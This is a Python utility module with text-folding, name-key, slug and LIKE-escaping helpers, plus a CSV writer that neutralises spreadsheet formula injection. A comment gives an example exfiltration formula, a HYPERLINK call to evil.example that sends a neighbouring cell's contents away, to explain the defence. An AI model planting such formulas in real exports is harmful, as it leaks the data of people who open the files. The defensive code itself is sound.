"""Text helpers shared by search, geocoding and every spreadsheet export."""

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any, TextIO

_SEPARATORS = re.compile(r"[\s\-'’_.]+")


def fold(value: str) -> str:
    """Accent- and case-insensitive key: "Saint-Flour-de-Mercoire" -> "saint flour de mercoire"."""
    decomposed = unicodedata.normalize("NFKD", value)
    stripped = "".join(c for c in decomposed if not unicodedata.combining(c))
    return _SEPARATORS.sub(" ", stripped.casefold()).strip()


_WORDS = re.compile(r"[^\W_]+")


def name_key(value: str) -> str:
    """The key two names share when only accents, case, punctuation and word order differ:
    "Épicerie solidaire du Lez" and "LEZ (du) solidaire, epicerie" -> "du epicerie lez solidaire".
    The duplicate search compares it; its SQL twin is `terreau_name_key` (migration 0007, a
    test holds them equal)."""
    folded = fold(value).replace("œ", "oe").replace("æ", "ae")  # as unaccent writes them
    return " ".join(sorted(_WORDS.findall(folded)))


def slugify(value: str) -> str:
    return fold(value).replace(" ", "-")


def like_escape(value: str) -> str:
    """`value` taken literally inside a LIKE pattern (PostgreSQL's default escape, backslash)."""
    return value.replace("\\", "\\\\").replace("%", "\\%").replace("_", "\\_")



# OWASP's CSV-injection rule: a spreadsheet reads a cell starting with one of these as a
# formula (`=HYPERLINK("http://evil.example/?"&A1;"clic")` sends the neighbouring cell away).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """A cell that a spreadsheet shows as text, never runs: a string starting like a formula gets
    a leading apostrophe (the OWASP rule). Numbers, and strings that are only a signed number
    (a longitude "-0.12"), stay as they are: a spreadsheet does not evaluate them."""
    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SpreadsheetWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_safe`: the one way exports write
    CSV, so a new export cannot forget it."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
